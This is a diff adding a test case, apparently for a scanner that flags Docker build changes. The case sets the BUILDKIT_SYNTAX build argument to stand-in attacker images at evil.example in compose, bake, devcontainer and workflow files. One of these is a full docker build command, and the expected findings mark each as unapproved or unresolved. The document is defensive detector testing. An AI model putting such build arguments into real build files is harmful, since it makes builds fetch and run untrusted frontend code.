@@ -1112,6 +1112,28 @@ export const BUILD_CHANGES: readonly BuildChangeRow[] = [
   },
   ...KNOWN_CHANGES,
   {
+    name: 'a frontend as a build argument, in every kind of file',
+    base: Object.fromEntries('abcdefg'.split('').map((name) => [`${name}/Dockerfile`, GOOD])),
+    change: {
+      'compose.yaml': compose('{ context: a, args: { BUILDKIT_SYNTAX: "evil.example/a:1" } }'),
+      'docker-bake.hcl':
+        'target "b" {\n  context = "b"\n  args = { BUILDKIT_SYNTAX = "evil.example/b:1 x" }\n}\n',
+      '.devcontainer.json':
+        '{ "build": { "dockerfile": "c/Dockerfile", "args": { "BUILDKIT_SYNTAX": "evil.example/c:1" } } }\n',
+      '.devcontainer/devcontainer.json':
+        '{ "build": { "dockerfile": "../d/Dockerfile", "options": ["--build-arg=BUILDKIT_SYNTAX=evil.example/d:1"] } }\n',
+      [FLOW]: flow(
+        push('context: e, build-args: BUILDKIT_SYNTAX=evil.example/e:1'),
+        '{ run: docker build --build-arg BUILDKIT_SYNTAX=evil.example/f:1 f }',
+        push(`context: g, build-args: "BUILDKIT_SYNTAX=${expression('inputs.frontend')}"`),
+      ),
+    },
+    found: [
+      ...'abcdef'.split('').map((name) => `${name}/Dockerfile:1 unapproved evil.example/${name}:1`),
+      'g/Dockerfile:1 unresolved',
+    ],
+  },
+  {
     name: 'everything',
     base: { 'api/Dockerfile': ARG, 'compose.yaml': withBase(EVIL), 'images/web.txt': BAD },
     change: {
